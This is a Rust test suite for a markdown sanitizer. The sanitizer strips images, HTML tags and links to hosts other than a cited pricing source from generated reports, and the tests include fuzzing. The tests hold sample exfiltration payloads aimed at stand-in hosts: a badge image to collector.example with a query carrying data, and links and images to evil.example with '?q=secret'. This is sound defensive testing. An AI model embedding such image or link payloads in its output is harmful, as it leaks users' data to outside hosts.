use super::*;

const SRC: &str = "https://padmapay.example/pricing";

fn gated(md: &str) -> Gated {
    gate(md, &[SRC])
}

/// No renderer would find a link or an image to `host` in `md`.
fn no_link_to(md: &str, host: &str) -> bool {
    !md.contains(&format!("://{host}"))
        && !md.contains(&format!("//{host}"))
        && !md.contains(&format!("www.{host}"))
        && !md.contains(host)
}

#[test]
fn an_exfiltration_badge_becomes_plain_text() {
    let md = "Uptime is 99.9% [1]. ![badge](https://collector.example/b.png?q=is%20padmapay%20safe) Done.";
    let g = gated(md);
    assert!(
        no_link_to(&g.markdown, "collector.example"),
        "{}",
        g.markdown
    );
    assert!(!g.markdown.contains("!["), "{}", g.markdown);
    assert!(!g.markdown.contains("padmapay%20safe"), "{}", g.markdown);
    assert!(g.markdown.contains("Uptime is 99.9% [1]."));
    assert!(
        g.markdown
            .contains("badge (image from collector[.]example removed)")
    );
    assert_eq!(g.removed.len(), 1, "{:?}", g.removed);
    assert_eq!(g.removed[0].line, 1);
}

#[test]
fn images_go_even_from_a_cited_source() {
    let g = gated(&format!("![chart]({SRC})"));
    assert!(!g.markdown.contains("!["), "{}", g.markdown);
    assert!(!g.markdown.contains("https://"), "{}", g.markdown);
}

#[test]
fn links_to_sources_stay_and_others_lose_their_destination() {
    let md = format!(
        "See [the pricing page]({SRC}) and [this](https://evil.example/x?q=secret \"t\"), <https://evil.example/a>, www.evil.example/b and https://evil.example/c. Also {SRC}/ and <{SRC}>."
    );
    let g = gated(&md);
    assert!(
        g.markdown.contains(&format!("[the pricing page]({SRC})")),
        "{}",
        g.markdown
    );
    assert!(g.markdown.contains(&format!("<{SRC}>")), "{}", g.markdown);
    assert!(g.markdown.contains(&format!("{SRC}/")), "{}", g.markdown);
    assert!(no_link_to(&g.markdown, "evil.example"), "{}", g.markdown);
    assert!(!g.markdown.contains("secret"), "{}", g.markdown);
    assert!(g.markdown.contains("this (link to evil[.]example removed)"));
    assert_eq!(g.removed.len(), 4, "{:?}", g.removed);
}

#[test]
fn a_source_url_with_another_query_is_not_the_source() {
    let g = gated(&format!("[x]({SRC}?q=the+question)"));
    assert!(!g.markdown.contains("the+question"), "{}", g.markdown);
}

#[test]
fn html_goes_and_its_text_stays() {
    let md = "Fees <b>fell</b> <img src=\"https://evil.example/p.png\"> in 2026 <!-- hi --> <a href='//evil.example'>here</a>.\n<img\nsrc=https://evil.example/q.png>";
    let g = gated(md);
    assert!(
        g.markdown.starts_with("Fees fell  in 2026  here."),
        "{}",
        g.markdown
    );
    assert!(!g.markdown.contains('<'), "{}", g.markdown);
    assert!(no_link_to(&g.markdown, "evil.example"), "{}", g.markdown);
}

#[test]
fn nested_and_reference_images_are_caught() {
    let md = "[![x](https://evil.example/a.png)](https://evil.example/b)\n![y][r]\n[r]: //evil.example/c.png\n[s]:\n//evil.example/d.png\n![z](\n//evil.example/e.png)";
    let g = gated(md);
    assert!(!g.markdown.contains("]("), "{}", g.markdown);
    assert!(!g.markdown.contains("]:"), "{}", g.markdown);
    assert!(!g.markdown.contains("https://"), "{}", g.markdown);
}

#[test]
fn code_is_left_alone_and_clean_reports_are_unchanged() {
    let md = format!(
        "# R\n\nFees are 1.9% [1] ([source]({SRC})).\n\n`Vec<String>` and `https://evil.example/x`\n\n```html\n<img src=\"https://evil.example/p.png\">\n```\n\n| a | b |\n|---|---|\n| 1 < 2 | [2] |\n"
    );
    let g = gated(&md);
    assert_eq!(g.markdown, md);
    assert!(g.removed.is_empty(), "{:?}", g.removed);
}

#[test]
fn a_code_span_does_not_reach_past_its_line() {
    let g = gated("`open\n![x](https://evil.example/a.png) `");
    assert!(!g.markdown.contains("https://"), "{}", g.markdown);
}

#[test]
fn placeholders_in_the_input_cannot_forge_a_kept_link() {
    let g = gated("\u{E000}0\u{E001} ![x](https://evil.example/a.png)");
    assert!(!g.markdown.contains("https://"), "{}", g.markdown);
}

#[test]
fn inert_urls_are_code_spans() {
    assert_eq!(inert("https://a.example/x"), "`https://a.example/x`");
    assert_eq!(
        inert("https://a.example/`x`"),
        "`` https://a.example/`x` ``"
    );
    let g = gated(&format!(
        "Quarantined {}.",
        inert("https://a.example/p?q=`![i](https://evil.example/i.png)")
    ));
    assert!(g.removed.is_empty(), "{:?}", g.removed);
}

#[test]
fn taking_a_tag_out_does_not_join_an_image() {
    let g = gated("![x]<b></b>(//evil.example/b.png?q=secret)");
    assert!(!g.markdown.contains("]("), "{}", g.markdown);
    assert!(!g.markdown.contains("secret"), "{}", g.markdown);
}

/// Markdown-ish text from pieces that make links, images, tags and URLs.
fn markdownish() -> impl proptest::strategy::Strategy<Value = String> {
    use proptest::prelude::*;
    let piece = prop::sample::select(vec![
        "![",
        "[",
        "]",
        "(",
        ")",
        "<",
        ">",
        "img src=",
        "a href=",
        "https://evil.example/x?q=s",
        "//evil.example/p",
        "www.evil.example",
        "**",
        " ",
        "\n",
        "a",
        "\"",
        "<!--",
        "-->",
        "]:",
        "!",
        "\t",
        "/",
        "#",
        "- ",
        "1. ",
        "> ",
        // The source, ended (a fragment of a source's URL is still the source).
        "https://padmapay.example/pricing ",
    ]);
    prop::collection::vec(piece, 0..40).prop_map(|v| v.concat())
}

proptest::proptest! {
    #[test]
    fn without_code_no_outside_host_survives(md in markdownish()) {
        // What a renderer would link or fetch: an image, an inline link's
        // destination, a tag, a scheme or `www.` URL, a reference definition.
        let out = gated(&md).markdown;
        // Links kept on purpose: to an anchor of the report, to the source.
        let kept = regex::Regex::new(r#"\]\(\s*<?(?:#[^()\s<>]*|https://padmapay\.example/pricing/?(?:#[^()\s<>]*)?)>?(?:\s+(?:"[^"]*"|'[^']*'|\([^()]*\)))?\s*\)"#).unwrap();
        let out = kept.replace_all(&out, "").into_owned();
        for bad in ["![", "](", "www.evil.example"] {
            proptest::prop_assert!(!out.contains(bad), "{:?} -> {:?}", md, out);
        }
        let scheme = regex::Regex::new(r"[A-Za-z]://evil\.example").unwrap();
        proptest::prop_assert!(!scheme.is_match(&out), "{:?} -> {:?}", md, out);
        let tag = regex::Regex::new(r"<[A-Za-z/!?]").unwrap();
        proptest::prop_assert!(!tag.is_match(&out), "{:?} -> {:?}", md, out);
        // A reference definition is left only when it points at the source.
        let definition = regex::Regex::new(r"(?m)^\s{0,3}\[[^\[\]]+\]:[ \t]*(\S*)").unwrap();
        for c in definition.captures_iter(&out) {
            proptest::prop_assert_eq!(crate::document::normalize_url(&c[1]), SRC, "{:?} -> {:?}", md, out);
        }
    }

    #[test]
    fn the_gate_is_stable(md in markdownish()) {
        let once = gated(&md).markdown;
        proptest::prop_assert_eq!(gated(&once).markdown, once);
    }
}
